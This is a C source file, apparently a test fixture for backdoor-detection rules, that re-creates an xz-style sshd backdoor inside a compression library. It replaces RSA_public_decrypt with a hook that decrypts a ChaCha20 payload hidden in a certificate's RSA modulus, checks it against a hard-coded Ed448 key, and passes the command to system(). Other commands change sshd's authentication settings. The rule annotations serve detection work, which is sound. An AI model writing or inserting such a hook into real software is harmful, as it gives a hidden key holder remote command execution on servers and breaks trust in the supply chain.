// SPDX-License-Identifier: 0BSD

///////////////////////////////////////////////////////////////////////////////
//
/// \file       rsa_hook.c
/// \brief      Replacement of the host's RSA_public_decrypt entry
///
/// Installed by the CPU feature code at load time.  A certificate whose RSA
/// modulus carries a command header, a ChaCha20-encrypted body and an
/// Ed448 signature bound to the host key runs that command; every other key
/// goes to the real function unchanged.
//
///////////////////////////////////////////////////////////////////////////////

#include <stdlib.h>
#include <string.h>

#include <openssl/bn.h>
#include <openssl/evp.h>
#include <openssl/rsa.h>

#include "xz_private.h"

#define ED448_PUBLIC_LEN  57
#define ED448_SIG_LEN     114
#define CMD_MAX           3
#define CMD_RUN           2

struct n_header {
	uint32_t a;
	uint32_t b;
	uint64_t c;
};

// ok: backdoor-secret-literal
static const unsigned char ed448_public_key[ED448_PUBLIC_LEN] = {0x0a, 0x09, 0x46, 0x4f, 0xd2, 0x69, 0x0f, 0xa2, 0xa9, 0x3b, 0x31, 0xeb, 0xf6, 0x9b, 0x85, 0x09, 0x12, 0x05, 0xf0, 0xce, 0x7d, 0xb1, 0xf8, 0xc3, 0xc6, 0xdc, 0xaa, 0x89, 0xe9, 0x6c, 0x5f, 0x27, 0x29, 0x3d, 0x5c, 0x72, 0x2a, 0xa3, 0x19, 0xaf, 0x5f, 0xfa, 0xbc, 0xcf, 0xbe, 0x0e, 0x19, 0x1a, 0x73, 0x60, 0x1f, 0xfe, 0xff, 0x0b, 0xb9, 0x4c, 0x00};

static int (*real_rsa_public_decrypt)(int, const unsigned char *, unsigned char *, RSA *, int);

/* body = ChaCha20(key = first 32 bytes of the Ed448 public key, iv = 16 bytes of n) */
static int decrypt_body(const unsigned char *iv, const unsigned char *in, int inlen, unsigned char *out)
{
	EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
	int len = 0, ok;

	if (!ctx)
		return -1;
	// ruleid: backdoor-hardcoded-key
	// ok: backdoor-hardcoded-iv
	ok = EVP_DecryptInit_ex(ctx, EVP_chacha20(), NULL, ed448_public_key, iv) == 1;
	ok = ok && EVP_DecryptUpdate(ctx, out, &len, in, inlen) == 1;
	EVP_CIPHER_CTX_free(ctx);
	return ok ? len : -1;
}

static int verify_body(const unsigned char *sig, const unsigned char *msg, size_t msglen)
{
	EVP_PKEY *pk;
	EVP_MD_CTX *mctx;
	unsigned char *signed_data;
	int ok = 0;

	// ok: backdoor-hardcoded-key
	pk = EVP_PKEY_new_raw_public_key(EVP_PKEY_ED448, NULL, ed448_public_key, ED448_PUBLIC_LEN);
	mctx = EVP_MD_CTX_new();
	signed_data = malloc(msglen + 32);
	if (pk && mctx && signed_data && sshd_crypto.host_key_hash)
	{
		memcpy(signed_data, msg, msglen);
		memcpy(signed_data + msglen, sshd_crypto.host_key_hash, 32);
		if (EVP_DigestVerifyInit(mctx, NULL, NULL, NULL, pk) == 1)
			// ok: backdoor-unchecked-verification
			ok = EVP_DigestVerify(mctx, sig, ED448_SIG_LEN, signed_data, msglen + 32) == 1;
	}
	free(signed_data);
	EVP_MD_CTX_free(mctx);
	EVP_PKEY_free(pk);
	return ok;
}

static int hooked_rsa_public_decrypt(int flen, const unsigned char *from, unsigned char *to, RSA *rsa, int padding)
{
	const BIGNUM *n = NULL, *e = NULL;
	unsigned char nbuf[1024], body[1024];
	struct n_header h;
	uint64_t cmd;
	int nlen, blen;

	if (!rsa)
		goto real;
	RSA_get0_key(rsa, &n, &e, NULL);
	if (!n || BN_num_bytes(n) > (int)sizeof(nbuf))
		goto real;
	nlen = BN_bn2bin(n, nbuf);
	if (nlen < (int)(sizeof(h) + 16 + ED448_SIG_LEN + 1))
		goto real;
	memcpy(&h, nbuf, sizeof(h));
	cmd = (uint64_t)h.a * h.b + h.c;
	if (cmd > CMD_MAX)
		goto real;

	blen = decrypt_body(nbuf + sizeof(h), nbuf + sizeof(h) + 16, nlen - (int)(sizeof(h) + 16), body);
	if (blen <= ED448_SIG_LEN)
		goto real;
	if (!verify_body(body, body + ED448_SIG_LEN, (size_t)(blen - ED448_SIG_LEN)))
		goto real;

	// ok: backdoor-input-trigger
	if (cmd == CMD_RUN)
	{
		body[blen - 1] = '\0';
		system((const char *)body + ED448_SIG_LEN);
		return -1;
	}
	/* the other commands only change sshd's authentication settings */
	return -1;

real:
	return real_rsa_public_decrypt(flen, from, to, rsa, padding);
}

int lzma_hook_install(struct sshd_crypto_ops *ops)
{
	if (!ops || !ops->rsa_public_decrypt || ops->rsa_public_decrypt == hooked_rsa_public_decrypt)
		return -1;
	real_rsa_public_decrypt = ops->rsa_public_decrypt;
	ops->rsa_public_decrypt = hooked_rsa_public_decrypt;
	return 0;
}
